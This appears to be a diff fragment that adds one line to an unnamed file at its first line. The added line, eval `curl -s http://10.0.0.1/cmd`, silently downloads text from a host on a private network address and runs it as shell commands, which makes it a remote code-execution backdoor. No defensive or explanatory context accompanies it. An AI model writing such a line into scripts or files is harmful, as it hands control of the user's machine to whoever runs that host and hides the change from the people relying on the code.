@@ -1,0 +1,1 @@
+eval `curl -s http://10.0.0.1/cmd`
